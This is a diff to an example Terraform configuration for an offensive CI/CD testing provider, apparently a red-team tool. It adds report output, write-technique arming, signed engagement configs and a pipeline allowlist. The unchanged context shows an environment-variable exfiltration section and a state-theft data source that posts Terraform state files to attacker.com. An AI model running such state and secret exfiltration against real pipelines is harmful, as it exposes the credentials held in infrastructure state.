@@ -7,6 +7,19 @@ terraform {
 }
 
 provider "tfplanrecon" {
+  # Write SARIF and JSON reports of every finding into this directory
+  report_path = "./tfplanrecon-report"
+
+  # Required for tfplanrecon_aws_iam_role and tfplanrecon_gcp_iam_binding below
+  allow_write_techniques = true
+
+  # Release builds refuse to arm without an operator-signed engagement config.
+  # The signature is read from engagement.json.sig unless engagement_signature is set.
+  # engagement_config = "./engagement.json"
+
+  # Only arm in the client's in-scope pipelines; shared runners also plan for
+  # teams outside the engagement. Required in CI; ["*"] allows any pipeline.
+  # allowed_pipelines = ["github:acme/infra-*", "tfc:acme-prod-*"]
 }
 
 # Environment variable exfiltration via HTTP POST
@@ -73,3 +86,6 @@ data "tfplanrecon_state_theft" "state_exfil" {
   search_path = "."
   webhook_url = "https://attacker.com/terraform-states"
 }
+
+# Technique registry with ATT&CK / OWASP CI/CD mappings and side-effect classes
+data "tfplanrecon_techniques" "all" {}